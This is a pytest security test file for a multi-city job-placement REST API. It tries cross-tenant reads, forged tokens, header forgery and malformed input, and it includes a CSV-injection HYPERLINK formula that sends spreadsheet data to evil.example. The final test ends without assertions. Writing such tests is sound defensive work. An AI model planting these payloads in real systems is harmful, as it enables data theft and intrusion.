"""Attacks on the REST API v1 (fresh-eyes review): each test is one concrete attempt and asserts the safe answer.

City B's staff against city A's objects (by id, filters, ordering, pages, exports, the public
endpoints with another slug), forged or stale tokens, read-only tokens on writes and actions,
header forgery, an employer reaching for a candidate's undisclosed data, the APEKSI analyst on
every tenant route, and malformed input that must answer 4xx in the API's error shape, never 5xx.
"""

from __future__ import annotations

import datetime
import re

import pytest
from django.urls import reverse
from django.utils import timezone
from rest_framework.test import APIClient

from accounts.models import AuditLogEntry, Membership, User
from api.models import ApiToken
from api.routers import router
from cities.tenancy import city_context
from employers.models import Employer, Vacancy
from jobseekers.models import JobSeeker
from placements.models import Referral
from tests import personas
from tests.accounts.test_permission_matrix import build_employer_world
from tests.api.conftest import bearer_client, make_member, make_token

pytestmark = pytest.mark.django_db

NIK_A = "3372054701900001"


@pytest.fixture
def users(city_a, city_b) -> dict:
    return personas.cast(city_a, city_b, other_city_key="staff_b", apeksi_key="apeksi")


@pytest.fixture
def world(city_a, city_b, users) -> dict:
    found = build_employer_world(city_a, users)
    with city_context(city_a):
        found["seeker"] = JobSeeker.objects.create(
            name="Alpha Secret Person", nik=NIK_A, phone="081200000001", address="Jl. Rahasia 9"
        )
    with city_context(city_b):
        found["seeker_b"] = JobSeeker.objects.create(name="Beta person")
    found["b"] = bearer_client(make_token(users["staff_b"], city_b))
    return found


def _error(response) -> dict:
    body = response.json()
    assert set(body) == {"error"}, body
    return body["error"]


def _no_leak(response, *words: str) -> None:
    text = response.content.decode(errors="replace")
    for word in words:
        assert word not in text
    assert "Traceback" not in text and 'File "/' not in text


# --- City B's staff against city A's objects by id ---------------------------------------------------------
def test_other_city_staff_cannot_read_a_case_by_id(world):
    response = world["b"].get(reverse("api:jobseeker-detail", kwargs={"pk": world["seeker"].pk}))
    assert response.status_code == 404 and _error(response)["code"] == "not_found"
    _no_leak(response, "Alpha Secret Person", NIK_A)


def test_other_city_staff_cannot_update_a_case(city_a, world):
    url = reverse("api:jobseeker-detail", kwargs={"pk": world["seeker"].pk})
    response = world["b"].patch(url, {"name": "Hijacked"}, format="json")
    assert response.status_code == 404
    with city_context(city_a):
        assert JobSeeker.objects.get(pk=world["seeker"].pk).name == "Alpha Secret Person"


def test_other_city_staff_cannot_move_a_case(city_a, world):
    url = reverse("api:jobseeker-case", kwargs={"pk": world["seeker"].pk})
    response = world["b"].post(url, {"status": "active"}, format="json")
    assert response.status_code == 404
    with city_context(city_a):
        assert JobSeeker.objects.get(pk=world["seeker"].pk).status == world["seeker"].status


def test_other_city_staff_cannot_read_sensitive_data_and_nothing_is_audited(city_a, world):
    url = reverse("api:jobseeker-sensitive", kwargs={"pk": world["seeker"].pk})
    response = world["b"].get(url)
    assert response.status_code == 404
    _no_leak(response, NIK_A)
    with city_context(city_a):
        assert not AuditLogEntry.objects.filter(
            action=AuditLogEntry.Action.ACCESS, object_pk=str(world["seeker"].pk)
        ).exists()


def test_other_city_staff_cannot_read_or_publish_a_vacancy(city_a, world):
    vacancy = world["vacancy"]
    assert world["b"].get(reverse("api:vacancy-detail", kwargs={"pk": vacancy.pk})).status_code == 404
    response = world["b"].post(
        reverse("api:vacancy-transition", kwargs={"pk": vacancy.pk}), {"to": "closed"}, format="json"
    )
    assert response.status_code == 404
    with city_context(city_a):
        assert Vacancy.objects.get(pk=vacancy.pk).status == vacancy.status


def test_other_city_staff_cannot_verify_an_employer(world):
    url = reverse("api:employer-verify", kwargs={"pk": world["employer"].pk})
    assert world["b"].post(url).status_code == 404
    assert world["b"].get(reverse("api:employer-detail", kwargs={"pk": world["employer"].pk})).status_code == 404


def test_other_city_ids_in_a_referral_body_are_unknown(city_a, city_b, users, world):
    """City A's staff propose a referral of city B's person: 400 'does not exist', nothing written."""
    client = bearer_client(make_token(users["staff"], city_a))
    body = {"job_seeker": world["seeker_b"].pk, "vacancy": world["vacancy"].pk}
    response = client.post(reverse("api:referral-list"), body, format="json")
    assert response.status_code == 400 and "job_seeker" in _error(response)["fields"]
    with city_context(city_a):
        assert not Referral.objects.filter(job_seeker_id=world["seeker_b"].pk).exists()
    with city_context(city_b):
        assert not Referral.objects.exists()


# --- Through filters, ordering, pages and exports -----------------------------------------------------------
@pytest.mark.parametrize(
    "params",
    [
        {"city": "A"},
        {"city_id": "A"},
        {"city__slug": "A"},
        {"city__id": "A"},
        {"id": "SEEKER"},
        {"pk__in": "SEEKER"},
        {"q": "Alpha Secret"},
        {"q": NIK_A},
    ],
    ids=lambda p: next(iter(p)),
)
def test_query_parameters_never_reach_another_city(city_a, world, params):
    values = {"A": str(city_a.pk), "SEEKER": str(world["seeker"].pk)}
    query = {key: values.get(value, value) for key, value in params.items()}
    response = world["b"].get(reverse("api:jobseeker-list"), query)
    assert response.status_code in (200, 400)
    _no_leak(response, "Alpha Secret Person", NIK_A)


@pytest.mark.parametrize(
    "ordering", ["employer__legal_name", "city__name", "-nik", "assigned_officer__email", "name,__class__", "?"]
)
def test_ordering_by_unlisted_or_related_fields_is_ignored_not_a_500(world, ordering):
    for name in ("api:jobseeker-list", "api:vacancy-list", "api:employer-list", "api:referral-list"):
        response = world["b"].get(reverse(name), {"ordering": ordering})
        assert response.status_code == 200, (name, response.content[:300])
        _no_leak(response, "Alpha Secret Person", "PT Matriks")


def test_vacancy_filter_on_another_citys_employer_finds_nothing(world):
    response = world["b"].get(reverse("api:vacancy-list"), {"employer": world["employer"].pk})
    assert response.status_code == 200 and response.json()["count"] == 0


def test_pagination_links_stay_in_the_city_and_huge_pages_are_capped(city_b, world):
    with city_context(city_b):
        JobSeeker.objects.bulk_create([JobSeeker(name=f"B{i:03d}") for i in range(3)])
    response = world["b"].get(reverse("api:jobseeker-list"), {"page_size": 10**9})
    assert response.status_code == 200
    assert len(response.json()["results"]) == 4
    _no_leak(response, "Alpha Secret Person")
    second = world["b"].get(reverse("api:jobseeker-list"), {"page_size": 2, "page": 2})
    assert [row["name"] for row in second.json()["results"]] == ["B002", "Beta person"]


@pytest.mark.parametrize("page", ["0", "-1", "abc", "999999", "1e9", "9" * 40])
def test_bad_page_numbers_are_a_404_in_the_error_shape(world, page):
    response = world["b"].get(reverse("api:jobseeker-list"), {"page": page})
    assert response.status_code == 404 and _error(response)["code"] == "not_found"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_carries_only_the_callers_city(world, fmt):
    response = world["b"].get(reverse("api:jobseeker-export", kwargs={"fmt": fmt}), {"city": "1"})
    assert response.status_code == 200
    body = response.content
    if fmt == "xlsx":
        import io

        from openpyxl import load_workbook

        book = load_workbook(io.BytesIO(body), read_only=True)
        body = repr([row for sheet in book for row in sheet.iter_rows(values_only=True)]).encode()
    assert b"Beta person" in body
    assert b"Alpha Secret Person" not in body and NIK_A.encode() not in body
    vacancies = world["b"].get(reverse("api:vacancy-export", kwargs={"fmt": "csv"}))
    assert vacancies.status_code == 200 and b"Operator data" not in vacancies.content


# --- Public endpoints with another city's slug --------------------------------------------------------------
def test_public_vacancy_of_city_a_under_city_bs_slug_is_a_404(city_b, world):
    vacancy = world["vacancy"]
    for name in ("api:public-vacancy-detail", "api:public-vacancy-jobposting"):
        response = APIClient().get(reverse(name, kwargs={"city_slug": city_b.slug, "id": vacancy.pk}))
        assert response.status_code == 404
        _no_leak(response, "Operator data", "PT Matriks")
    listing = APIClient().get(reverse("api:public-vacancy-list", kwargs={"city_slug": city_b.slug}))
    assert listing.status_code == 200 and listing.json()["count"] == 0


def test_public_endpoint_of_an_unknown_city_is_a_404_not_another_city(world):
    response = APIClient().get(reverse("api:public-vacancy-list", kwargs={"city_slug": "no-such-city"}))
    assert response.status_code == 404


def test_public_list_ignores_a_valid_token_of_another_city(city_a, city_b, users, world):
    """A city-B token on city A's public list shows only A's public vacancies (the URL's city), no more."""
    response = world["b"].get(reverse("api:public-vacancy-list", kwargs={"city_slug": city_a.slug}))
    assert response.status_code == 200
    for row in response.json()["results"]:
        assert set(row) <= {
            "id", "city", "title", "employer_name", "occupation", "arrangement", "employment_type",
            "accommodation_ids", "reserved_for_pwd", "wage_min", "wage_max", "wage_negotiable", "deadline",
            "published_at", "url",
        }  # fmt: skip


# --- Tokens: forged, stale, of the wrong city ---------------------------------------------------------------
def test_a_token_with_its_city_part_changed_is_refused(city_a, city_b, users, world):
    raw = make_token(users["staff"], city_a)
    forged = re.sub(r"^ijc_\d+_", f"ijc_{city_b.pk}_", raw)
    response = bearer_client(forged).get(reverse("api:jobseeker-list"))
    assert response.status_code == 401 and _error(response)["code"] == "authentication_failed"


def test_a_city_a_token_with_a_session_in_city_b_still_runs_in_city_a(city_a, city_b, users, world):
    person = users["staff_b"]
    with city_context(city_a):
        from accounts.services import member_register

        member_register(user=person, city=city_a, role=Membership.Role.STAFF)
    client = bearer_client(make_token(person, city_a))
    client.force_login(person)
    session = client.session
    session["active_city_id"] = city_b.pk
    session.save()
    names = [row["name"] for row in client.get(reverse("api:jobseeker-list")).json()["results"]]
    assert "Alpha Secret Person" in names and "Beta person" not in names


def test_a_token_of_a_downgraded_member_loses_staff_rights(city_a, users, world):
    staff = users["staff"]
    raw = make_token(staff, city_a)
    with city_context(city_a):
        Membership.objects.filter(user=staff, city=city_a).update(role=Membership.Role.JOB_SEEKER)
    client = bearer_client(raw)
    for url in (
        reverse("api:jobseeker-list"),
        reverse("api:jobseeker-sensitive", kwargs={"pk": world["seeker"].pk}),
        reverse("api:referral-list"),
    ):
        assert client.get(url).status_code == 403


@pytest.mark.parametrize("state", ["revoked", "expired", "inactive_user"])
def test_stale_tokens_are_401_even_on_public_endpoints(city_a, users, world, state):
    staff = users["staff"]
    raw = make_token(staff, city_a)
    with city_context(city_a):
        token = ApiToken.objects.get(user=staff)
        if state == "revoked":
            token.revoked_at = timezone.now()
        elif state == "expired":
            token.expires_at = timezone.now() - datetime.timedelta(seconds=1)
        token.save()
    if state == "inactive_user":
        User.objects.filter(pk=staff.pk).update(is_active=False)
    client = bearer_client(raw)
    for url in (reverse("api:jobseeker-list"), reverse("api:public-vacancy-list", kwargs={"city_slug": city_a.slug})):
        response = client.get(url)
        assert response.status_code == 401 and response["WWW-Authenticate"].startswith("Bearer")


@pytest.mark.parametrize("header", ["Bearer", "Bearer ", "Bearer ijc_1_x", "Bearer " + "a" * 5000, "bearer ijc__"])
def test_malformed_bearer_headers_are_401(city_a, world, header):
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=header)
    response = client.get(reverse("api:jobseeker-list"))
    assert response.status_code == 401 and _error(response)["code"] == "authentication_failed"


def test_read_scope_token_cannot_write_nor_run_actions(city_a, users, world):
    client = bearer_client(make_token(users["staff"], city_a, scope="read"))
    seeker, vacancy = world["seeker"], world["vacancy"]
    attempts = [
        ("patch", reverse("api:jobseeker-detail", kwargs={"pk": seeker.pk}), {"name": "X"}),
        ("post", reverse("api:jobseeker-case", kwargs={"pk": seeker.pk}), {"status": "active"}),
        ("post", reverse("api:jobseeker-list"), {"name": "New", "referral_source": "walk_in"}),
        ("post", reverse("api:vacancy-transition", kwargs={"pk": vacancy.pk}), {"to": "closed"}),
        ("post", reverse("api:employer-verify", kwargs={"pk": world["employer"].pk}), {}),
        ("post", reverse("api:referral-list"), {"job_seeker": seeker.pk, "vacancy": vacancy.pk}),
    ]
    for method, url, body in attempts:
        response = getattr(client, method)(url, body, format="json")
        assert response.status_code == 403, (url, response.content[:200])
        assert "read-only" in _error(response)["message"]
    with city_context(city_a):
        assert JobSeeker.objects.get(pk=seeker.pk).name == "Alpha Secret Person"
        assert Vacancy.objects.get(pk=vacancy.pk).status == vacancy.status
        assert not Referral.objects.filter(job_seeker=seeker).exists()


def test_read_scope_token_cannot_import(city_a, users, world):
    import io

    client = bearer_client(make_token(users["staff"], city_a, scope="read"))
    upload = io.BytesIO(b"Nama\nX\n")
    upload.name = "x.csv"
    response = client.post(reverse("api:jobseeker-import"), {"file": upload, "dry_run": "false"}, format="multipart")
    assert response.status_code == 403


def test_staff_without_mfa_cannot_create_a_token_on_the_page(city_a, world):
    staff = make_member(city_a, Membership.Role.STAFF, mfa=False)
    client = APIClient()
    client.force_login(staff)
    response = client.post(reverse("api-tokens:list"), {"name": "x", "scope": "write", "expires": "30"})
    assert response.status_code in (302, 403)
    with city_context(city_a):
        assert not ApiToken.objects.filter(user=staff).exists()


# --- Header forgery -----------------------------------------------------------------------------------------
def test_forged_city_headers_change_nothing(city_a, world):
    response = world["b"].get(
        reverse("api:jobseeker-list"),
        HTTP_X_CITY=str(city_a.pk),
        HTTP_X_CITY_ID=str(city_a.pk),
        HTTP_X_FORWARDED_HOST=f"{city_a.slug}.example",
        HTTP_X_FORWARDED_FOR="127.0.0.1",
    )
    assert response.status_code == 200
    _no_leak(response, "Alpha Secret Person")


def test_forged_host_header_is_refused(world):
    response = world["b"].get(reverse("api:jobseeker-list"), HTTP_HOST="evil.example")
    assert response.status_code == 400
    _no_leak(response, "Beta person")


def test_x_forwarded_for_does_not_reset_the_anonymous_throttle(settings, city_a, world):
    from rest_framework.settings import api_settings
    from rest_framework.throttling import SimpleRateThrottle

    settings.TRUSTED_PROXY_COUNT = 0
    original = SimpleRateThrottle.THROTTLE_RATES
    SimpleRateThrottle.THROTTLE_RATES = {**api_settings.DEFAULT_THROTTLE_RATES, "anon": "2/minute"}
    try:
        url = reverse("api:public-vacancy-list", kwargs={"city_slug": city_a.slug})
        codes = [APIClient().get(url, HTTP_X_FORWARDED_FOR=f"203.0.113.{i}").status_code for i in range(4)]
    finally:
        SimpleRateThrottle.THROTTLE_RATES = original
    assert codes == [200, 200, 429, 429]


# --- An employer reaching for candidates' data ---------------------------------------------------------------
def test_employer_token_cannot_reach_case_or_sensitive_data(city_a, users, world):
    client = bearer_client(make_token(users["employer"], city_a))
    seeker = world["seeker"]
    urls = [
        reverse("api:jobseeker-list"),
        reverse("api:jobseeker-detail", kwargs={"pk": seeker.pk}),
        reverse("api:jobseeker-sensitive", kwargs={"pk": seeker.pk}),
        reverse("api:jobseeker-export", kwargs={"fmt": "csv"}),
        reverse("api:referral-list"),
        reverse("api:placement-list"),
        reverse("api:follow-up-list") if _has("api:follow-up-list") else reverse("api:followup-list"),
    ]
    for url in urls:
        response = client.get(url, {"q": NIK_A})
        assert response.status_code == 403, url
        _no_leak(response, NIK_A, "Alpha Secret Person", "Jl. Rahasia", "081200000001")


def test_employer_own_vacancies_carry_no_candidate_fields(city_a, users, world):
    client = bearer_client(make_token(users["employer"], city_a))
    for url in (
        reverse("api:own-vacancy-list"),
        reverse("api:own-vacancy-detail", kwargs={"pk": world["vacancy"].pk}),
    ):
        response = client.get(url, {"expand": "referrals", "include": "job_seeker", "fields": "nik"})
        assert response.status_code == 200
        body = response.json()
        rows = body.get("results", [body])
        for row in rows:
            assert not {key for key in row if re.search(r"nik|wg_|diagnos|ragam|seeker|candidate|referr", key)}
        _no_leak(response, "Alpha Secret", "081200000001", NIK_A)


def test_employer_cannot_attach_another_employers_workplace(city_a, users, world):
    from employers import services as employer_services

    other_user = make_member(city_a, Membership.Role.EMPLOYER)
    with city_context(city_a):
        other = employer_services.employer_register(
            actor=other_user,
            legal_name="PT Lain",
            sector="private",
            size="small",
            address="Jl. Lain 2",
            contact_name="Sri",
            contact_email="hr@lain.test",
            contact_phone="0812",
        )
    client = bearer_client(make_token(other_user, city_a))
    body = {
        "title": "Stolen site",
        "description": "<p>x</p>",
        "essential_tasks": "x",
        "employment_type": "permanent",
        "arrangement": "on_site",
        "working_hours": "08-16",
        "workplace": world["workplace"].pk,
    }
    response = client.post(reverse("api:own-vacancy-list"), body, format="json")
    assert response.status_code in (400, 409)
    with city_context(city_a):
        assert not Vacancy.objects.filter(employer=other).exists()


def test_employer_cannot_read_or_move_another_employers_vacancy(city_a, users, world):
    stranger = make_member(city_a, Membership.Role.EMPLOYER)
    client = bearer_client(make_token(stranger, city_a))
    pk = world["vacancy"].pk
    assert client.get(reverse("api:own-vacancy-detail", kwargs={"pk": pk})).status_code == 404
    response = client.post(reverse("api:own-vacancy-transition", kwargs={"pk": pk}), {"to": "closed"}, format="json")
    assert response.status_code == 404
    with city_context(city_a):
        assert Vacancy.objects.get(pk=pk).status == world["vacancy"].status


# --- The APEKSI analyst on every tenant route ----------------------------------------------------------------
def _has(name: str) -> bool:
    from django.urls import NoReverseMatch

    try:
        reverse(name)
    except NoReverseMatch:
        return False
    return True


def _route_urls(world) -> list[tuple[str, str]]:
    urls = []
    for pattern in router.urls:
        name = pattern.name
        if name.startswith(("public-", "apeksi-")):
            continue  # public: anyone's; apeksi-: the analyst's own aggregates (tested below)
        kwargs = {}
        if "(?P<pk>" in str(pattern.pattern):
            kwargs["pk"] = world["seeker"].pk
        if "(?P<fmt>" in str(pattern.pattern):
            kwargs["fmt"] = "csv"
        urls.append((name, reverse(f"api:{name}", kwargs=kwargs)))
    return urls


def test_apeksi_analyst_gets_nothing_from_any_tenant_route(users, world):
    client = APIClient()
    client.force_login(users["apeksi"])
    token_less = []
    for name, url in _route_urls(world):
        for method in ("get", "post", "patch"):
            response = getattr(client, method)(url, {}, format="json")
            if response.status_code not in (401, 403, 404, 405):
                token_less.append((name, method, response.status_code))
            _no_leak(response, "Alpha Secret Person", NIK_A, "PT Matriks")
    assert token_less == []


def test_every_tenant_route_refuses_city_b_staff_for_city_a_ids(world):
    """Every detail route of the router with a city-A id: never a 2xx for city B's staff."""
    from placements.models import Placement

    with city_context(world["vacancy"].city):
        ids = {
            "jobseeker": world["seeker"].pk,
            "employer": world["employer"].pk,
            "vacancy": world["vacancy"].pk,
            "own-vacancy": world["vacancy"].pk,
        }
        assert Placement.objects.count() >= 0
    bad = []
    for pattern in router.urls:
        if "(?P<pk>" not in str(pattern.pattern):
            continue
        basename = pattern.name.rsplit("-", 1)[0] if not pattern.name.endswith("-detail") else pattern.name[:-7]
        pk = next((v for k, v in ids.items() if pattern.name.startswith(k + "-")), world["seeker"].pk)
        url = reverse(f"api:{pattern.name}", kwargs={"pk": pk})
        for method in ("get", "post"):
            response = getattr(world["b"], method)(url, {}, format="json")
            if 200 <= response.status_code < 300:
                bad.append((basename, method, response.status_code))
            _no_leak(response, "Alpha Secret Person", "PT Matriks", NIK_A)
    assert bad == []


# --- Malformed input: 4xx in the error shape, never a 5xx ----------------------------------------------------
def test_huge_ids_in_the_path_are_404(world):
    for name in ("api:jobseeker-detail", "api:vacancy-detail", "api:referral-detail", "api:placement-detail"):
        response = world["b"].get(reverse(name, kwargs={"pk": 10**30}))
        assert response.status_code == 404, name


@pytest.mark.parametrize(
    ("name", "params"),
    [
        ("api:jobseeker-list", {"registered_from": "not-a-date"}),
        ("api:jobseeker-list", {"status": "nope"}),
        ("api:vacancy-list", {"published_after": "2026-13-45T99:00"}),
        ("api:vacancy-list", {"employer": "1e999"}),
        ("api:vacancy-list", {"employer": "9" * 40}),
        ("api:referral-list", {"vacancy": "x"}),
        ("api:referral-list", {"job_seeker": "9" * 40}),
        ("api:follow-up-list", {"due_before": "yesterday"}),
        ("api:placement-list", {"started_from": "0000-00-00"}),
        ("api:assessment-list", {"scheduled_from": "\x00"}),
        ("api:jobseeker-list", {"q": "a\x00b"}),
        ("api:employer-list", {"q": "\x00"}),
        ("api:vacancy-list", {"status": "\x00"}),
    ],
)
def test_bad_filter_values_are_400_not_500(city_a, users, world, name, params):
    if not _has(name):
        name = name.replace("follow-up", "followup")
    client = bearer_client(make_token(users["staff"], city_a))
    response = client.get(reverse(name), params)
    assert response.status_code in (200, 400), (name, params, response.status_code, response.content[:300])
    if response.status_code == 400:
        assert _error(response)["code"] == "invalid"


def test_public_filters_with_junk_are_not_500(city_a, world):
    url = reverse("api:public-vacancy-list", kwargs={"city_slug": city_a.slug})
    junk = [
        {"accommodation": "9" * 9},
        {"accommodation": "\u00b2"},  # "²".isdigit() is true, int("²") raises
        {"q": "\x00" * 10},  # PostgreSQL refuses NUL in text
        {"occupation": "%_\\"},
        {"arrangement": "\x00"},
        {"q": "a" * 10000},
    ]
    for params in junk:
        response = APIClient().get(url, params)
        assert response.status_code in (200, 400), params
        page = APIClient().get(f"/kota/{city_a.slug}/lowongan/", params)  # the public page: same input
        assert page.status_code in (200, 400), ("page", params)


def test_invalid_json_and_wrong_content_types(city_a, users, world):
    client = bearer_client(make_token(users["staff"], city_a))
    url = reverse("api:jobseeker-detail", kwargs={"pk": world["seeker"].pk})
    broken = client.patch(url, data='{"name": ', content_type="application/json")
    assert broken.status_code == 400 and _error(broken)["code"] == "parse_error"
    plain = client.patch(url, data="name=x", content_type="text/plain")
    assert plain.status_code == 415 and _error(plain)["code"] == "unsupported_media_type"
    listy = client.patch(url, data="[1, 2]", content_type="application/json")
    assert listy.status_code == 400
    nul = client.patch(url, {"name": "a\x00b"}, format="json")
    assert nul.status_code == 400
    with city_context(city_a):
        assert JobSeeker.objects.get(pk=world["seeker"].pk).name == "Alpha Secret Person"


def test_bad_bodies_on_actions_are_400_not_500(city_a, users, world):
    client = bearer_client(make_token(users["staff"], city_a))
    seeker = world["seeker"]
    attempts = [
        (reverse("api:jobseeker-case", kwargs={"pk": seeker.pk}), {"status": "active", "assigned_officer": 10**30}),
        (reverse("api:jobseeker-case", kwargs={"pk": seeker.pk}), {"status": "active", "next_action_on": "x"}),
        (reverse("api:jobseeker-list"), {"name": "N", "referral_source": "walk_in", "consent_channel": "in_person",
                                          "birth_date": "9999-99-99"}),
        (reverse("api:referral-list"), {"job_seeker": "x", "vacancy": [1]}),
        (reverse("api:referral-list"), {"job_seeker": 10**30, "vacancy": 10**30}),
        (reverse("api:vacancy-transition", kwargs={"pk": world["vacancy"].pk}), {"to": {"a": 1}}),
    ]  # fmt: skip
    for url, body in attempts:
        response = client.post(url, body, format="json")
        assert 400 <= response.status_code < 500, (url, body, response.status_code, response.content[:300])


def test_import_of_garbage_files_is_a_clear_400(city_a, users, world):
    import io

    client = bearer_client(make_token(users["staff"], city_a))
    for name, content in (("x.xlsx", b"PK\x03\x04garbage"), ("x.csv", b"\xff\xfe\x00\x00"), ("x.exe", b"MZ")):
        upload = io.BytesIO(content)
        upload.name = name
        response = client.post(
            reverse("api:jobseeker-import"), {"file": upload, "dry_run": "false"}, format="multipart"
        )
        assert response.status_code == 400, (name, response.content[:300])
    with city_context(city_a):
        assert JobSeeker.objects.count() == 1


def test_not_found_answers_do_not_say_whether_the_id_exists_elsewhere(world):
    existing = world["b"].get(reverse("api:jobseeker-detail", kwargs={"pk": world["seeker"].pk}))
    missing = world["b"].get(reverse("api:jobseeker-detail", kwargs={"pk": world["seeker"].pk + 10_000}))
    assert existing.status_code == missing.status_code == 404
    assert existing.json() == missing.json()


def test_employer_list_ignores_a_verified_filter_typo_and_never_shows_city_a(world):
    response = world["b"].get(reverse("api:employer-list"), {"verified": "maybe", "legal_name": "PT Matriks"})
    assert response.status_code in (200, 400)
    _no_leak(response, "PT Matriks")
    assert Employer  # the model is imported for readers: the list reads Employer.objects (city-scoped)


# --- More doors: token pages, CSRF, bearer outside /api/, method override, formats, big bodies ---------------
def test_a_user_cannot_revoke_another_users_token(city_a, users, world):
    owner, other = users["staff"], users["city_admin"]
    make_token(owner, city_a)
    with city_context(city_a):
        token = ApiToken.objects.get(user=owner)
    client = APIClient()
    client.force_login(other)
    response = client.post(reverse("api-tokens:revoke", kwargs={"pk": token.pk}))
    assert response.status_code == 404
    with city_context(city_a):
        assert ApiToken.objects.get(pk=token.pk).revoked_at is None


def test_a_session_write_without_the_csrf_token_is_refused(city_a, users, world):
    client = APIClient(enforce_csrf_checks=True)
    client.force_login(users["staff"])
    url = reverse("api:jobseeker-detail", kwargs={"pk": world["seeker"].pk})
    response = client.patch(url, {"name": "Cross-site"}, format="json")
    assert response.status_code == 403
    with city_context(city_a):
        assert JobSeeker.objects.get(pk=world["seeker"].pk).name == "Alpha Secret Person"


def test_a_bearer_token_does_not_sign_in_on_the_pages(city_a, users, world):
    """Tokens are for /api/ only: a page with a bearer header and no session is still anonymous."""
    client = bearer_client(make_token(users["staff"], city_a))
    response = client.get(reverse("dashboards:city-dashboard"))
    assert response.status_code in (302, 403)
    assert "Alpha Secret Person" not in response.content.decode()


def test_a_token_of_a_deactivated_city_is_refused(city_a, users, world):
    from cities.models import City

    raw = make_token(users["staff"], city_a)
    City.objects.filter(pk=city_a.pk).update(is_active=False)
    assert bearer_client(raw).get(reverse("api:jobseeker-list")).status_code == 401


def test_method_override_headers_are_ignored(city_a, users, world):
    client = bearer_client(make_token(users["staff"], city_a, scope="read"))
    url = reverse("api:jobseeker-detail", kwargs={"pk": world["seeker"].pk})
    response = client.get(url, HTTP_X_HTTP_METHOD_OVERRIDE="PATCH", data={"name": "Overridden"})
    assert response.status_code == 200
    response = client.post(url, {"name": "Overridden"}, format="json", HTTP_X_HTTP_METHOD_OVERRIDE="PATCH")
    assert response.status_code in (403, 405)
    with city_context(city_a):
        assert JobSeeker.objects.get(pk=world["seeker"].pk).name == "Alpha Secret Person"


@pytest.mark.parametrize("fmt", ["api", "xml", "html", "yaml", "csv"])
def test_unknown_response_formats_are_404_not_a_browsable_page(world, fmt):
    response = world["b"].get(reverse("api:jobseeker-list"), {"format": fmt})
    assert response.status_code in (404, 406)
    _no_leak(response, "Alpha Secret Person")


def test_a_body_over_the_upload_limit_is_a_4xx_in_the_error_shape(settings, city_a, users, world):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 10_000
    client = bearer_client(make_token(users["staff"], city_a))
    url = reverse("api:jobseeker-detail", kwargs={"pk": world["seeker"].pk})
    response = client.patch(url, {"address": "x" * 20_000}, format="json")
    assert response.status_code == 413 and _error(response)["code"] == "request_too_large"
    with city_context(city_a):
        assert JobSeeker.objects.get(pk=world["seeker"].pk).address == world["seeker"].address


@pytest.mark.parametrize("name", ["api:placement-list", "api:followup-list", "api:assessment-list"])
def test_ordering_placements_follow_ups_and_assessments_by_person_fields_is_ignored(city_a, users, world, name):
    client = bearer_client(make_token(users["staff"], city_a))
    for ordering in ("referral__job_seeker__nik", "job_seeker__name", "-wage", "city"):
        response = client.get(reverse(name), {"ordering": ordering})
        assert response.status_code == 200, (name, ordering)


def test_options_on_a_private_route_shows_no_data_to_the_anonymous(world):
    response = APIClient().options(reverse("api:jobseeker-detail", kwargs={"pk": world["seeker"].pk}))
    assert response.status_code in (200, 401, 403)
    _no_leak(response, "Alpha Secret Person", NIK_A)
    assert "actions" not in response.json()


def test_apeksi_api_answers_from_rollups_only_and_suppressed(users, world):
    """The analyst's aggregate endpoint (when registered): small counts as "<5", no tenant table queried."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from dashboards.models import CityRollup
    from tests.factories import CityFactory

    if not _has("api:apeksi-indicators-list"):
        pytest.skip("the APEKSI aggregates endpoint is not registered yet")
    small, big = CityFactory(), CityFactory()
    CityRollup.objects.create(for_city=small, month="2026-09-01", indicator="registrations", count=3)
    CityRollup.objects.create(for_city=big, month="2026-09-01", indicator="registrations", count=40)
    client = APIClient()
    client.force_login(users["apeksi"])
    with CaptureQueriesContext(connection) as queries:
        response = client.get(reverse("api:apeksi-indicators-list"), {"dari": "2026-09", "sampai": "2026-09"})
    assert response.status_code == 200
    cities = next(t for t in response.json()["tables"] if t["slug"] == "cities")
    row = next(r for r in cities["rows"] if small.name in r.values())
    assert row["registrations"] == "<5"
    sql = "\n".join(q["sql"] for q in queries.captured_queries)
    for table in ("jobseekers_jobseeker", "placements_placement", "employers_vacancy", "placements_referral"):
        assert table not in sql
    staff = bearer_client(make_token(users["staff"], world["vacancy"].city))
    assert staff.get(reverse("api:apeksi-indicators-list")).status_code == 403


def test_deeply_nested_json_is_a_400_not_a_500(city_a, users, world):
    client = bearer_client(make_token(users["staff"], city_a))
    url = reverse("api:jobseeker-detail", kwargs={"pk": world["seeker"].pk})
    response = client.patch(url, data="[" * 50_000 + "]" * 50_000, content_type="application/json")
    assert response.status_code == 400 and _error(response)["code"] == "parse_error"


def test_a_nik_registered_in_city_a_is_no_duplicate_in_city_b(city_b, world):
    """City B registering the same NIK must not be told someone has it (that would reveal city A's person)."""
    body = {
        "name": "Different Name",
        "nik": NIK_A,
        "referral_source": "walk_in",
        "consent_channel": "in_person",
        "consent_basis": "read_aloud",
        "consents": ["specific_data"],
    }
    response = world["b"].post(reverse("api:jobseeker-list"), body, format="json")
    assert response.status_code == 201, response.content[:300]
    _no_leak(response, "Alpha Secret Person")
    with city_context(city_b):
        assert JobSeeker.objects.filter(nik=NIK_A).count() == 1


def test_the_jobposting_of_an_unpublished_vacancy_is_a_404(city_a, users, world):
    from employers import services as employer_services

    with city_context(city_a):
        employer_services.vacancy_transition(actor=users["employer"], vacancy=world["vacancy"], to="closed")
    for name in ("api:public-vacancy-detail", "api:public-vacancy-jobposting"):
        response = APIClient().get(reverse(name, kwargs={"city_slug": city_a.slug, "id": world["vacancy"].pk}))
        assert response.status_code == 404, name
        _no_leak(response, "Operator data")


@pytest.mark.parametrize(
    "form", [{"name": "x", "scope": "admin", "expires": "30"}, {"name": "x", "scope": "write", "expires": "99999"}]
)
def test_a_token_cannot_be_made_with_a_forged_scope_or_expiry(city_a, users, world, form):
    client = APIClient()
    client.force_login(users["staff"])
    response = client.post(reverse("api-tokens:list"), form)
    assert response.status_code in (200, 400)
    with city_context(city_a):
        assert not ApiToken.objects.filter(user=users["staff"]).exists()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_formula_typed_as_a_name_is_not_a_formula_in_the_caseload_export(city_b, world, fmt):
    """Someone registers as '=HYPERLINK(...)': staff opening the export must not run it (CSV injection)."""
    evil = '=HYPERLINK("https://evil.example/?"&B3,"Klik")'
    with city_context(city_b):
        JobSeeker.objects.create(name=evil, kelurahan="@SUM(1+1)")
